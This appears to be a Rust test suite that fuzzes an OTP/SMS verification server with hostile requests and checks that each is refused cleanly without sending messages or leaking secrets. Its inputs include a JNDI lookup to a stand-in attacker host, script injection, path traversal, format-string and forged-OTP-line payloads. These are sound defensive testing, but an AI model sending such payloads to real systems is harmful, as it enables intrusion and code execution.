//! Hostile input against the real `otpgate serve` binary (dev mode, the emulated phone):
//! oversized, malformed and mistyped bodies, invalid UTF-8 in bodies and paths, 10 kB phone
//! numbers and ids, control and bidi characters, full-width digits, template-injection
//! attempts in every field, absurd proof-of-work nonces, unknown and duplicate fields, huge
//! headers. Each gets a 4xx (never a 5xx, never a crash); the ones the router sees get the
//! one error shape `{"error": {"code", "message", "request_id"}}` with the request id of
//! the `X-Request-Id` header. None changes state: no SMS leaves, a valid flow still works
//! afterwards, and the server log never carries the full number or the code.
//!
//! Requests are written by hand on a TCP socket so that bytes no HTTP client would send
//! (invalid UTF-8 in the path, a body longer than its type allows) reach the server as is.
#![allow(clippy::unwrap_used, missing_docs)]

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use otpgate_test_support::process::{Server, free_port};
use serde_json::{Value, json};

/// The number of the valid flows (UK drama range, an allowed country by default).
const PHONE: &str = "+447400900123";
/// Its digits, as a log line could carry them without the `+`.
const PHONE_DIGITS: &str = "447400900123";

/// An answer read off the socket.
#[derive(Debug)]
struct Answer {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Answer {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// A dev-mode issuer whose stderr (the JSON log) is collected.
struct Issuer {
    server: Server,
    addr: String,
    log: Arc<Mutex<Vec<u8>>>,
    _dir: tempfile::TempDir,
}

impl Issuer {
    fn start() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let port = free_port();
        let mut server = Server::start(dir.path(), None, port, &[]);
        let log = Arc::new(Mutex::new(Vec::new()));
        let mut stderr = server.child.stderr.take().unwrap();
        let sink = log.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 8192];
            while let Ok(n) = stderr.read(&mut buf) {
                if n == 0 {
                    break;
                }
                sink.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        });
        Self {
            addr: format!("127.0.0.1:{port}"),
            server,
            log,
            _dir: dir,
        }
    }

    /// Writes `head` (request line and headers, without the blank line) and `body`, then
    /// reads the answer to the end (`Connection: close`).
    fn raw(&self, head: &[u8], body: &[u8]) -> Answer {
        let mut s = TcpStream::connect(&self.addr).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        s.set_write_timeout(Some(Duration::from_secs(20))).unwrap();
        let mut req = head.to_vec();
        req.extend_from_slice(b"\r\n\r\n");
        req.extend_from_slice(body);
        // The server may answer and close before it has read everything (413, 431): a
        // failed write is fine as long as an answer comes.
        let _ = s.write_all(&req);
        let _ = s.flush();
        let mut out = Vec::new();
        let mut buf = [0u8; 16384];
        loop {
            match s.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => out.extend_from_slice(&buf[..n]),
                Err(e) if out.is_empty() => panic!("no answer: {e}"),
                Err(_) => break,
            }
        }
        parse_answer(&out)
    }

    /// A request with the usual headers; `Content-Length` is set when there is a body or the
    /// method is POST.
    fn send(&self, method: &str, path: &[u8], headers: &[(&str, &[u8])], body: &[u8]) -> Answer {
        let mut head = Vec::new();
        head.extend_from_slice(method.as_bytes());
        head.push(b' ');
        head.extend_from_slice(path);
        head.extend_from_slice(b" HTTP/1.1\r\nHost: ");
        head.extend_from_slice(self.addr.as_bytes());
        head.extend_from_slice(b"\r\nConnection: close");
        for (k, v) in headers {
            head.extend_from_slice(b"\r\n");
            head.extend_from_slice(k.as_bytes());
            head.extend_from_slice(b": ");
            head.extend_from_slice(v);
        }
        if !body.is_empty() || method == "POST" {
            head.extend_from_slice(format!("\r\nContent-Length: {}", body.len()).as_bytes());
        }
        self.raw(&head, body)
    }

    /// POST with `Content-Type: application/json`.
    fn post_json(&self, path: &str, body: &[u8]) -> Answer {
        self.send(
            "POST",
            path.as_bytes(),
            &[("Content-Type", b"application/json")],
            body,
        )
    }

    /// POST of `body` as JSON text.
    fn post_value(&self, path: &str, body: &Value) -> Answer {
        self.post_json(path, body.to_string().as_bytes())
    }

    fn get(&self, path: &str) -> Answer {
        self.send("GET", path.as_bytes(), &[], b"")
    }

    /// Every SMS the emulated phone "sent".
    fn outbox(&self) -> Vec<Value> {
        let a = self.get("/_emulator/messages");
        assert_eq!(a.status, 200, "{}", a.text());
        a.json().as_array().cloned().unwrap_or_default()
    }

    /// Starts a verification to `phone`; returns its id.
    fn start_ok(&self, phone: &str) -> String {
        let a = self.post_value("/v1/verifications", &json!({"phone": phone}));
        assert_eq!(a.status, 201, "{}", a.text());
        a.json()["id"].as_str().unwrap().to_owned()
    }

    /// The code of the last SMS to `phone` (the WebOTP line `@host #code`).
    fn code_for(&self, phone: &str, nth: usize) -> String {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let texts: Vec<String> = self
                .outbox()
                .iter()
                .filter(|m| {
                    m["phone"].as_str() == Some(phone)
                        || m["phoneNumbers"]
                            .as_array()
                            .is_some_and(|l| l.iter().any(|p| p.as_str() == Some(phone)))
                        || m.to_string().contains(phone)
                })
                .filter_map(|m| m["text"].as_str().map(str::to_owned))
                .collect();
            if texts.len() >= nth {
                let text = &texts[nth - 1];
                let last = text.lines().last().unwrap();
                assert!(last.starts_with("@localhost #"), "{text}");
                return last.rsplit('#').next().unwrap().to_owned();
            }
            assert!(Instant::now() < deadline, "no SMS #{nth} to the phone");
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    /// The valid flow still works: start, the SMS arrives, the code approves.
    fn valid_flow_works(&self, phone: &str) -> String {
        let before = self.outbox().len();
        let id = self.start_ok(phone);
        let code = self.code_for(phone, 1);
        assert_eq!(self.outbox().len(), before + 1);
        let a = self.post_json(
            &format!("/v1/verifications/{id}/check"),
            json!({"code": code}).to_string().as_bytes(),
        );
        assert_eq!(a.status, 200, "{}", a.text());
        assert_eq!(a.json()["status"], "approved");
        code
    }

    /// The log so far, and that the process is alive.
    fn log_text(&mut self) -> String {
        assert!(
            self.server.child.try_wait().unwrap().is_none(),
            "otpgate serve exited"
        );
        // Let the last lines reach the pipe.
        std::thread::sleep(Duration::from_millis(200));
        String::from_utf8_lossy(&self.log.lock().unwrap()).into_owned()
    }

    /// The log never carries the number or any code given.
    fn assert_log_clean(&mut self, codes: &[&str]) {
        let log = self.log_text();
        assert!(!log.is_empty(), "the server logged nothing at all");
        for secret in [PHONE, PHONE_DIGITS, "7400900123"] {
            assert!(!log.contains(secret), "the log carries {secret}: {log}");
        }
        for code in codes {
            assert!(
                !log.contains(code),
                "the log carries the code {code}: {log}"
            );
        }
        assert!(
            !log.contains("\"level\":\"ERROR\""),
            "an error was logged: {log}"
        );
        assert!(!log.to_lowercase().contains("panic"), "a panic: {log}");
    }
}

fn parse_answer(raw: &[u8]) -> Answer {
    let split = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .unwrap_or_else(|| panic!("no header end in {:?}", String::from_utf8_lossy(raw)));
    let head = String::from_utf8_lossy(&raw[..split]).into_owned();
    let mut lines = head.split("\r\n");
    let status_line = lines.next().unwrap();
    let status: u16 = status_line
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("bad status line {status_line:?}"));
    let headers: Vec<(String, String)> = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_owned(), v.trim().to_owned()))
        .collect();
    let mut body = raw[split + 4..].to_vec();
    let chunked = headers.iter().any(|(k, v)| {
        k.eq_ignore_ascii_case("transfer-encoding") && v.eq_ignore_ascii_case("chunked")
    });
    if chunked {
        body = dechunk(&body);
    }
    Answer {
        status,
        headers,
        body,
    }
}

fn dechunk(mut b: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    loop {
        let Some(eol) = b.windows(2).position(|w| w == b"\r\n") else {
            return out;
        };
        let size_txt = String::from_utf8_lossy(&b[..eol]);
        let size = usize::from_str_radix(size_txt.split(';').next().unwrap().trim(), 16).unwrap();
        if size == 0 {
            return out;
        }
        let start = eol + 2;
        out.extend_from_slice(&b[start..start + size]);
        b = &b[start + size + 2..];
    }
}

/// A 4xx in the one error shape with `code`, carrying the response's request id.
#[track_caller]
fn assert_error(a: &Answer, status: u16, code: &str) {
    assert_eq!(a.status, status, "wanted {status} {code}: {}", a.text());
    assert!(
        a.header("content-type")
            .is_some_and(|c| c.starts_with("application/json")),
        "{:?}",
        a.headers
    );
    let v = a.json();
    let e = &v["error"];
    assert_eq!(e["code"], code, "{v}");
    let message = e["message"].as_str().unwrap_or("");
    assert!(!message.is_empty(), "no message: {v}");
    assert!(message.len() < 600, "a long message echoes input: {v}");
    let rid = e["request_id"].as_str().unwrap_or("");
    assert!(!rid.is_empty(), "no request id: {v}");
    assert_eq!(a.header("x-request-id"), Some(rid), "{v}");
    assert_eq!(
        v.as_object().unwrap().len(),
        1,
        "only `error` at the top: {v}"
    );
}

#[test]
fn bodies_too_big_malformed_or_mistyped_are_4xx_in_the_error_shape() {
    let mut s = Issuer::start();
    let start = "/v1/verifications";
    let id = s.start_ok(PHONE);
    // The SMS is dispatched in the background: wait for it before counting.
    let code = s.code_for(PHONE, 1);
    let sent_before = s.outbox().len();
    let check = format!("/v1/verifications/{id}/check");
    let resend = format!("/v1/verifications/{id}/resend");

    // Over the 16 KiB default limit: 413, announced by Content-Length or streamed chunked.
    let big = format!(r#"{{"phone":"{PHONE}","locale":"{}"}}"#, "a".repeat(20_000));
    for path in [start, check.as_str(), resend.as_str()] {
        assert_error(&s.post_json(path, big.as_bytes()), 413, "body_too_large");
    }
    let mut chunked = Vec::new();
    for piece in big.as_bytes().chunks(4096) {
        chunked.extend_from_slice(format!("{:x}\r\n", piece.len()).as_bytes());
        chunked.extend_from_slice(piece);
        chunked.extend_from_slice(b"\r\n");
    }
    chunked.extend_from_slice(b"0\r\n\r\n");
    let head = format!(
        "POST {start} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked",
        s.addr
    );
    assert_error(&s.raw(head.as_bytes(), &chunked), 413, "body_too_large");

    // Not JSON, truncated JSON, JSON of the wrong kind.
    for body in [
        &b""[..],
        b"{",
        b"{\"phone\":",
        b"{\"phone\": \"+447400900123\"",
        b"phone=+447400900123",
        b"\xef\xbb\xbf{\"phone\":\"+447400900123\"}",
        b"{\"phone\":'+447400900123'}",
        b"{\"phone\":\"+447400900123\",}",
        b"{\"phone\":\"+44\\uD800\"}",
        b"{\"phone\":\"+44\\x41\"}",
    ] {
        let a = s.post_json(start, body);
        assert_error(&a, 400, "invalid_json");
    }
    for body in [
        &b"null"[..],
        b"[]",
        b"\"+447400900123\"",
        b"447400900123",
        b"{}",
        b"{\"phone\":null}",
        b"{\"phone\":447400900123}",
        b"{\"phone\":[\"+447400900123\"]}",
        b"{\"phone\":{\"$ne\":null}}",
        b"{\"phone\":\"+447400900123\",\"app\":7}",
    ] {
        assert_error(&s.post_json(start, body), 400, "invalid_request");
    }
    for body in [
        &b"{}"[..],
        b"{\"code\":123456}",
        b"{\"code\":null}",
        b"[\"123456\"]",
    ] {
        assert_error(&s.post_json(&check, body), 400, "invalid_request");
    }
    assert_error(&s.post_json(&check, b"{\"code\":"), 400, "invalid_json");
    assert_error(&s.post_json(&resend, b"{\"pow\":"), 400, "invalid_json");
    assert_error(&s.post_json(&resend, b"[]"), 400, "invalid_request");

    // Nesting far past serde_json's recursion limit: an error, not a stack overflow.
    let deep = format!("{}{}", "[".repeat(8000), "]".repeat(8000));
    assert_error(&s.post_json(start, deep.as_bytes()), 400, "invalid_request");
    let deep = format!(
        r#"{{"phone":"{PHONE}","x":{}{}}}"#,
        "[".repeat(8000),
        "]".repeat(8000)
    );
    assert_error(&s.post_json(start, deep.as_bytes()), 400, "invalid_request");
    let deep_obj = format!(
        r#"{{"phone":"{PHONE}","pow":{}1{}}}"#,
        r#"{"a":"#.repeat(2000),
        "}".repeat(2000)
    );
    assert_error(
        &s.post_json(start, deep_obj.as_bytes()),
        400,
        "invalid_request",
    );

    // Invalid UTF-8 inside a JSON string.
    for body in [
        &b"{\"phone\":\"+44\xff7400900123\"}"[..],
        b"{\"phone\":\"+447400900123\",\"locale\":\"e\xc3\"}",
        b"{\"phone\":\"\xed\xa0\x80\"}",
        b"{\"\xfe\xff\":1}",
    ] {
        assert_error(&s.post_json(start, body), 400, "invalid_json");
    }
    assert_error(
        &s.post_json(&check, b"{\"code\":\"12\xff456\"}"),
        400,
        "invalid_json",
    );

    // The content type must be JSON (a cross-site form cannot send one without a preflight).
    let ok_body = json!({"phone": PHONE}).to_string();
    for ct in [
        None,
        Some(&b"text/plain"[..]),
        Some(b"application/x-www-form-urlencoded"),
        Some(b"multipart/form-data; boundary=x"),
        Some(b"application/jsonx"),
        Some(b"application/json-patch+json"),
        Some(b"text/json"),
        Some(b"application/\xffjson"),
        Some(b""),
    ] {
        let headers: Vec<(&str, &[u8])> = ct.map(|c| ("Content-Type", c)).into_iter().collect();
        for path in [start, check.as_str()] {
            let a = s.send("POST", path.as_bytes(), &headers, ok_body.as_bytes());
            assert_error(&a, 415, "unsupported_media_type");
        }
    }
    let a = s.send(
        "POST",
        resend.as_bytes(),
        &[("Content-Type", b"text/plain")],
        b"{\"pow\":null}",
    );
    assert_error(&a, 415, "unsupported_media_type");

    // Unknown and duplicate fields: a typo is an error, not a silent default.
    for body in [
        json!({"phone": PHONE, "admin": true}),
        json!({"phone": PHONE, "Phone": PHONE}),
        json!({"phone": PHONE, "pow": {"challenge": "x", "nonce": 1, "difficulty": 0}}),
        json!({"phone": PHONE, "code": "123456"}),
        json!({"phone": PHONE, "template": "{code} @evil.example #123456"}),
    ] {
        assert_error(
            &s.post_json(start, body.to_string().as_bytes()),
            400,
            "invalid_request",
        );
    }
    assert_error(
        &s.post_json(
            start,
            br#"{"phone":"+33612345678","phone":"+447400900123"}"#,
        ),
        400,
        "invalid_request",
    );
    assert_error(
        &s.post_json(&check, br#"{"code":"000000","verification_id":"x"}"#),
        400,
        "invalid_request",
    );
    assert_error(
        &s.post_json(&resend, br#"{"phone":"+447400900999"}"#),
        400,
        "invalid_request",
    );

    // Proof-of-work nonces that are not a u64.
    for nonce in [
        "-1",
        "18446744073709551616",
        "1e30",
        "1.5",
        "-0.0",
        "\"12\"",
        "null",
        "[1]",
        "99999999999999999999999999999999999999999999999999999999999999999999",
    ] {
        let body = format!(r#"{{"phone":"{PHONE}","pow":{{"challenge":"c","nonce":{nonce}}}}}"#);
        let a = s.post_json(start, body.as_bytes());
        assert_error(&a, 400, "invalid_request");
        let body = format!(r#"{{"pow":{{"challenge":"c","nonce":{nonce}}}}}"#);
        assert_error(
            &s.post_json(&resend, body.as_bytes()),
            400,
            "invalid_request",
        );
    }

    // Nothing was sent, the verification is untouched and its code still approves.
    assert_eq!(s.outbox().len(), sent_before, "a bad request sent an SMS");
    let view = s.get(&format!("/v1/verifications/{id}")).json();
    assert_eq!(view["status"], "pending", "{view}");
    assert_eq!(view["attempts_left"], 5, "{view}");
    let a = s.post_value(&check, &json!({"code": code}));
    assert_eq!(a.status, 200, "{}", a.text());
    s.assert_log_clean(&[&code]);
}

#[test]
fn hostile_phones_locales_apps_codes_and_ids_are_refused_without_effect() {
    let mut s = Issuer::start();
    let start = "/v1/verifications";
    let id = s.start_ok(PHONE);
    // The SMS is dispatched in the background: wait for it before counting.
    let code = s.code_for(PHONE, 1);
    let sent_before = s.outbox().len();

    // Phone numbers: far too long, control characters, bidi marks, full-width and other
    // non-ASCII digits, injection attempts. 400 before any gate, so no budget is spent.
    let ten_k = format!("+{}", "4".repeat(10_000));
    let phones = [
        ten_k.as_str(),
        "+4474009001230000000000000000000000",
        "+44\u{0}7400900123",
        "+44\r\n7400900123",
        "+44\t7400900123\u{7}",
        "\u{200f}+447400900123",
        "+447400900123\u{202e}",
        "+44\u{200b}7400900123",
        "\u{feff}+447400900123",
        "\u{ff0b}\u{ff14}\u{ff14}\u{ff17}\u{ff17}\u{ff10}\u{ff10}\u{ff19}\u{ff10}\u{ff10}\u{ff11}\u{ff12}\u{ff13}",
        "+\u{0664}\u{0664}\u{0667}\u{0667}\u{0660}\u{0660}\u{0669}\u{0660}\u{0660}\u{0661}\u{0662}\u{0663}",
        "+447400900123 @evil.example #123456",
        "+44{code}",
        "+44%s%s%s%n",
        "+447400900123\n@evil.example #123456",
        "00447400900123",
        "+0447400900123",
        "+4",
        "",
        "+",
    ];
    for phone in phones {
        let a = s.post_value(start, &json!({"phone": phone}));
        assert!(
            a.status == 400
                && matches!(
                    a.json()["error"]["code"].as_str(),
                    Some("invalid_phone" | "unknown_country_code")
                ),
            "{phone:?}: {} {}",
            a.status,
            a.text()
        );
        assert_error(&a, 400, a.json()["error"]["code"].as_str().unwrap());
        assert!(!a.text().contains("evil.example"), "{}", a.text());
    }

    // Locales and app names carrying placeholders, format strings, NULs, newlines and a
    // forged WebOTP line: refused, never put into an SMS.
    let injections = [
        "{code}",
        "{app_hash}",
        "{app}",
        "%s",
        "%n%n%n",
        "\u{0}",
        "en\u{0}",
        "en\n@evil.example #123456",
        "@evil.example #123456",
        "en\r\n\r\n<#> 123456",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "en-\u{202e}GB",
        "e\u{301}n",
    ];
    for bad in injections {
        let a = s.post_value(start, &json!({"phone": PHONE, "locale": bad}));
        assert_error(&a, 400, "invalid_locale");
        let a = s.post_value(start, &json!({"phone": PHONE, "app": bad}));
        assert_error(&a, 400, "unknown_app");
        assert!(!a.text().contains("evil.example"), "{}", a.text());
    }
    for bad in [
        "a".repeat(36),
        "x".repeat(10_000),
        "en-".repeat(12),
        String::new(),
    ] {
        let a = s.post_value(start, &json!({"phone": PHONE, "locale": bad}));
        assert_error(&a, 400, "invalid_locale");
    }
    let a = s.post_value(start, &json!({"phone": PHONE, "app": "d".repeat(10_000)}));
    assert_error(&a, 400, "unknown_app");

    // Typed codes longer than any code: refused before the store, no attempt spent.
    let check = format!("/v1/verifications/{id}/check");
    for code in [
        "1".repeat(65),
        "9".repeat(10_000),
        format!("{}\n@evil.example #123456", "{code}".repeat(12)),
        "%s".repeat(40),
        "\u{0}".repeat(70),
    ] {
        let a = s.post_value(&check, &json!({"code": code}));
        assert_error(&a, 400, "invalid_code");
    }
    let view = s.get(&format!("/v1/verifications/{id}")).json();
    assert_eq!(view["attempts_left"], 5, "{view}");
    // Short hostile codes are wrong codes: they spend an attempt, as any guess must.
    let mut left = 5;
    for code in ["{code}", "%s%s", "123456\n@evil.example #123456", "\u{0}"] {
        let a = s.post_value(&check, &json!({"code": code}));
        left -= 1;
        assert_error(&a, 422, "wrong_code");
        assert_eq!(a.json()["error"]["attempts_left"], left);
    }

    // Ids: 10 kB, non-ASCII, percent-encoded invalid UTF-8, traversal, NUL: all plain 404.
    let ten_k_id = format!("v_{}", "A".repeat(10_000));
    let ids: Vec<&str> = vec![
        &ten_k_id,
        "v_%FF%FE%FD%FC%FB%FA%F9%F8%F7%F6%F5",
        "%C0%AF",
        "v_%00AAAAAAAAAAAAAAAAAAAAA",
        "..%2F..%2Fmetrics",
        "v_AAAAAAAAAAAAAAAAAAAAA%2F",
        "v_\u{0661}\u{0662}",
        "%7Bcode%7D",
        "v_AAAAAAAAAAAAAAAAAAAAAA",
    ];
    for bad in ids {
        let enc: String = bad
            .bytes()
            .map(|b| {
                if b.is_ascii() {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect();
        let base = format!("/v1/verifications/{enc}");
        assert_error(&s.get(&base), 404, "not_found");
        assert_error(
            &s.send("DELETE", base.as_bytes(), &[], b""),
            404,
            "not_found",
        );
        assert_error(
            &s.post_json(&format!("{base}/check"), br#"{"code":"123456"}"#),
            404,
            "not_found",
        );
        assert_error(
            &s.post_json(&format!("{base}/resend"), b""),
            404,
            "not_found",
        );
    }

    // Nothing was sent; the verification still approves with its code.
    assert_eq!(s.outbox().len(), sent_before, "a bad request sent an SMS");
    let a = s.post_value(&check, &json!({"code": code}));
    assert_eq!(a.status, 200, "{}", a.text());
    // No SMS ever carried an injected line.
    for m in s.outbox() {
        let text = m["text"].as_str().unwrap_or("");
        assert!(!text.contains("evil"), "{text}");
        assert_eq!(
            text.lines().filter(|l| l.starts_with('@')).count(),
            1,
            "{text}"
        );
    }
    s.assert_log_clean(&[&code]);
}

#[test]
fn transport_oddities_headers_paths_and_methods_never_crash() {
    let mut s = Issuer::start();
    let sent_before = s.outbox().len();

    // Raw non-ASCII and invalid UTF-8 bytes in the path: a 4xx (the HTTP parser may answer
    // before the router, without a body), never a 5xx or a dropped server.
    for path in [
        &b"/v1/verifications/v_\xff\xfe\xfd"[..],
        b"/v1/verifications/\xc3\x28/check",
        b"/\xff",
    ] {
        let a = s.send("GET", path, &[], b"");
        assert!((400..500).contains(&a.status), "{path:?}: {a:?}");
        if !a.body.is_empty() {
            assert_error(&a, a.status, a.json()["error"]["code"].as_str().unwrap());
        }
    }

    // Huge and hostile headers.
    let big_header = vec![b'a'; 64 * 1024];
    let a = s.send("GET", b"/healthz", &[("X-Big", &big_header)], b"");
    assert_eq!(a.status, 200, "a 64 KiB header is within limits");
    let huge_header = vec![b'a'; 1024 * 1024];
    let a = s.send("GET", b"/healthz", &[("X-Huge", &huge_header)], b"");
    assert_eq!(a.status, 431, "{a:?}");
    let many: Vec<(String, Vec<u8>)> = (0..200)
        .map(|i| (format!("X-H{i}"), b"1".to_vec()))
        .collect();
    let many_refs: Vec<(&str, &[u8])> = many.iter().map(|(k, v)| (k.as_str(), &v[..])).collect();
    let a = s.send("GET", b"/healthz", &many_refs, b"");
    assert_eq!(a.status, 431, "{a:?}");
    // A request id that is too long or not a token is replaced, never echoed.
    for rid in [
        vec![b'r'; 10_000],
        b"abc\xff".to_vec(),
        b"id with spaces".to_vec(),
        b"<script>".to_vec(),
    ] {
        let a = s.send(
            "GET",
            b"/v1/verifications/nope",
            &[("X-Request-Id", &rid)],
            b"",
        );
        assert_error(&a, 404, "not_found");
        let echoed = a.header("x-request-id").unwrap();
        assert!(echoed.starts_with("req_") && echoed.len() < 64, "{echoed}");
    }
    // Bad API keys: 401 in the shape, for any size and encoding.
    let long_key = format!("Bearer {}", "k".repeat(10_000));
    for auth in [
        &b"Bearer nope"[..],
        b"Bearer ",
        b"Basic dXNlcjpwYXNz",
        b"Bearer \xff\xfe",
        long_key.as_bytes(),
    ] {
        let a = s.send(
            "POST",
            b"/v1/verifications",
            &[
                ("Content-Type", b"application/json"),
                ("Authorization", auth),
            ],
            json!({"phone": PHONE}).to_string().as_bytes(),
        );
        assert_error(&a, 401, "invalid_api_key");
    }
    // A Content-Length that lies: more announced than sent is a 4xx or a timeout-free
    // close; a bad value is refused by the HTTP parser.
    let a = s.send(
        "POST",
        b"/v1/verifications",
        &[
            ("Content-Type", b"application/json"),
            ("Content-Length", b"-5"),
        ],
        b"",
    );
    assert!((400..500).contains(&a.status), "{a:?}");

    // Gateway webhooks: unsigned, forged or oversized events never reach the state.
    for path in [
        "/v1/gateways/sms-gate/webhook",
        "/v1/gateways/textbee/webhook",
        "/v1/gateways/webhook/events",
    ] {
        let forged = json!({"id": "e1", "event": "sms:delivered", "payload": {"messageId": "x"}});
        for headers in [
            vec![],
            vec![("X-Signature", &b"00"[..]), ("X-Timestamp", b"1")],
            vec![
                ("X-Signature", &[b'f'; 64][..]),
                ("X-Timestamp", b"99999999999999999999"),
            ],
            vec![
                ("X-Otpgate-Signature", &b"\xff"[..]),
                ("X-Otpgate-Timestamp", b"-1"),
            ],
        ] {
            let mut h = headers.clone();
            h.push(("Content-Type", b"application/json"));
            let a = s.send("POST", path.as_bytes(), &h, forged.to_string().as_bytes());
            assert_eq!(a.status, 401, "{path}: {}", a.text());
            assert_error(&a, 401, a.json()["error"]["code"].as_str().unwrap());
        }
        let huge = vec![b'{'; 300 * 1024];
        assert_error(
            &s.send("POST", path.as_bytes(), &[("X-Signature", b"00")], &huge),
            413,
            "body_too_large",
        );
    }
    let a = s.get(&format!("/v1/gateways/multiotp/{}", "d".repeat(10_000)));
    assert_error(&a, 404, "not_found");

    // Wrong methods and unknown routes: 405 / 404 in the shape.
    for (method, path, status, code) in [
        ("PUT", "/v1/verifications", 405, "method_not_allowed"),
        ("GET", "/v1/verifications", 405, "method_not_allowed"),
        (
            "PATCH",
            "/v1/verifications/v_AAAAAAAAAAAAAAAAAAAAAA",
            405,
            "method_not_allowed",
        ),
        (
            "GET",
            "/v1/verifications/v_AAAAAAAAAAAAAAAAAAAAAA/check",
            405,
            "method_not_allowed",
        ),
        ("POST", "/healthz", 405, "method_not_allowed"),
        ("GET", "/v2/verifications", 404, "not_found"),
        ("GET", "/v1/verifications/a/b/c/d", 404, "not_found"),
    ] {
        let a = s.send(method, path.as_bytes(), &[], b"");
        assert_error(&a, status, code);
    }
    let a = s.get(&format!("/{}", "x/".repeat(4000)));
    assert_error(&a, 404, "not_found");
    let a = s.get(&format!("/healthz?{}", "q=1&".repeat(2000)));
    assert_eq!(a.status, 200);

    // Still serving, nothing sent, the flow works, the log is clean.
    assert_eq!(s.outbox().len(), sent_before, "a bad request sent an SMS");
    let code = s.valid_flow_works(PHONE);
    s.assert_log_clean(&[&code]);
}
